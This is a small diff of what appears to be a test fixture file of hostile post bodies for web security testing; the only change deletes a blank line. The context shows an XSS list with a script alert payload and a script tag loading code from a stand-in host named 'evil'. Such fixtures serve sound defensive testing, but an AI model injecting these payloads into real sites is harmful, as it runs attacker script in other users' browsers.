@@ -1,6 +1,5 @@
 """Bodies that try to run, or to break out of their post."""
 
-
 XSS = [
     "<script>alert(1)</script>",
     "<SCRIPT SRC=//evil/x.js></SCRIPT>",
